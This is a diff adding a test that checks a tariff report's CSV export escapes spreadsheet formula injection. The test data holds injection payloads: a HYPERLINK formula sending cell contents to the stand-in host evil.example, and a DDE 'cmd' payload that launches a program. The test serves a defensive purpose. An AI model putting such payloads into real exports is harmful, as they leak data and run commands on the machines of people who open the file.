@@ -132,3 +132,26 @@ describe('worked example: Sonora SUV, assembled in Mexico', () => {
     expect(report.rules.tariffs).toMatchObject({ id: 'tariff-measures', version: '1.1.0' });
   });
 });
+
+describe('the submission CSV opened in a spreadsheet', () => {
+  it('a name that starts like a formula is written as text, not run as one (CSV injection)', async () => {
+    const report = JSON.parse(JSON.stringify(await contentReport([BASE])));
+    const row = report.submissions[0];
+    for (const [field, text] of [
+      ['vehicle', '=HYPERLINK("http://evil.example/?x="&A1,"Sonora")'],
+      ['manufacturer', "+1+cmd|' /C calc'!A0"],
+      ['facility', '@SUM(1+1)'],
+      ['importerName', '-2+3'],
+    ] as const)
+      row[field] = text;
+    const [, line] = submissionsCsv([row]).split('\n');
+    expect(line).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Sonora"")"`);
+    expect(line).toContain(`,'+1+cmd|' /C calc'!A0,`);
+    expect(line).toContain(`'@SUM(1+1)`);
+    expect(line).toContain(`'-2+3`);
+    // Amounts stay as written: a decimal is no formula.
+    expect(line).toMatch(/,USD,30000\.00,6400\.00,23600\.00,/);
+    const negative = submissionsCsv([{ ...row, nonUsContent: '-12.50' }]).split('\n')[1];
+    expect(negative).toContain(',-12.50,');
+  });
+});
